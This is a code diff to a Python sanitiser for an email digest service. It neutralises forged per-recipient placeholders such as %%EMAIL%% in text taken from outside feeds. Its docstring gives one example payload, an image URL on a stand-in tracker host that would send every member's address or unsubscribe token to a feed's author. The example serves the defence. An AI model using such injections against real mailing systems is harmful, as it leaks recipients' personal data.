@@ -18,6 +18,13 @@ isolating them would need the one right construct in each form (HTML ``<bdi>``, 
 text, Atom) and still lets a title read differently from what it is. Right-to-left text
 does not need them: the Unicode bidi algorithm orders Arabic or Hebrew from the letters
 themselves, and the harmless marks (LRM U+200E, RLM U+200F, ALM U+061C) are kept.
+
+Text from outside must not forge the per-recipient markers either (``%%EMAIL%%``,
+``%%UNSUBSCRIBE_URL%%``, see ``digest.models.PLACEHOLDERS``): they are filled in each
+member's message after rendering, so an image ``src="https://tracker/?%%EMAIL%%"`` in a
+feed would send every member's address (or unsubscribe token) to its author. A word joiner
+(U+2060, invisible) goes between the two leading ``%``: the text reads the same and no
+longer matches. (The web version refuses a marker outright, which made such an item fail.)
 """
 
 from __future__ import annotations
@@ -37,6 +44,10 @@ _UNWANTED = re.compile(
 # A numeric character reference in HTML (``&#1;``, ``&#x202E;``): checked by value.
 _REFERENCE = re.compile(r"&#(?:[xX]([0-9a-fA-F]{1,8})|([0-9]{1,10}));?")
 _SPACES = re.compile(r"\s+")
+# The shape of every per-recipient marker (``digest.models.PLACEHOLDERS``), and of any
+# marker added later.
+MARKER = re.compile(r"%%(?=[A-Z][A-Z0-9_]*%%)")
+_WORD_JOINER = "\u2060"
 
 
 def _joined(match: re.Match[str]) -> str:
@@ -57,14 +68,19 @@ def is_unwanted(char: str) -> bool:
 
 
 def safe_text(text: str) -> str:
-    """``text`` without the unwanted characters (see the module); idempotent, and the
-    identity on text that has none."""
+    """``text`` without the unwanted characters and with no per-recipient marker (see the
+    module); idempotent, and the identity on text that has neither."""
     if text.isascii() and text.isprintable():
-        return text  # the common case, checked in C
+        return _defused(text)  # the common case, checked in C
     text = _PAIR.sub(_joined, text)
     text = _C1.sub(_from_cp1252, text)
     text = _NEWLINES.sub("\n", text)
-    return _UNWANTED.sub("", text)
+    return _defused(_UNWANTED.sub("", text))
+
+
+def _defused(text: str) -> str:
+    """No per-recipient marker survives in outside text (see the module)."""
+    return MARKER.sub("%" + _WORD_JOINER + "%", text) if "%%" in text else text
 
 
 def safe_line(text: str) -> str:
